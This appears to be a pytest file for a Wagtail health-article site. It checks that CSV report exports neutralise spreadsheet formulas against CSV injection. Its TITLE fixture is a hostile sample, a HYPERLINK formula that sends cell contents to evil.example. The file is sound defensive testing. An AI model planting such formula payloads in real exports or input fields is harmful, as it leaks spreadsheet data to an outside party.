"""Every staff CSV export neutralises formulas (OWASP CSV injection), including Wagtail's own
reports: a page title an editor typed is text in the spreadsheet, never a formula."""

import csv
import io

import pytest
from django.urls import reverse

from articles.models import ConditionArticlePage
from spa_site.spreadsheets import FORMULA_TRIGGERS, neutralise

TITLE = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Back spasm: causes, relief and when to worry")'
)


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_each_formula_trigger_gets_a_leading_quote(trigger):
    assert neutralise(f"{trigger}1+1") == f"'{trigger}1+1"


@pytest.mark.parametrize("value", ["Back spasm", "1+1", " =1", "", "'=1", 5, -5, None])
def test_other_cells_are_unchanged(value):
    assert neutralise(value) == value


@pytest.fixture
def formula_page(demo_site, django_user_model):
    user = django_user_model.objects.create_superuser("boss", "boss@example.com", "pw")
    page = ConditionArticlePage.objects.get(slug="back-spasm")
    page.title = TITLE
    page.last_reviewed = None
    page.save_revision().publish()
    ConditionArticlePage.objects.filter(pk=page.pk).update(locked=True, locked_by=user)
    return user


@pytest.mark.parametrize(
    ("url", "column"),
    [
        (reverse("wagtailadmin_reports:locked_pages"), "Title"),
        (reverse("seo_reports:long-titles"), "Page"),
        (reverse("editorial:reviews_due"), "Page"),
    ],
)
def test_report_exports(client, formula_page, settings, url, column):
    settings.MEDICAL_REVIEW_MAX_AGE_DAYS = 0
    client.force_login(formula_page)
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    cells = [row[column] for row in rows]
    assert "'" + TITLE in cells, cells
    assert TITLE not in cells
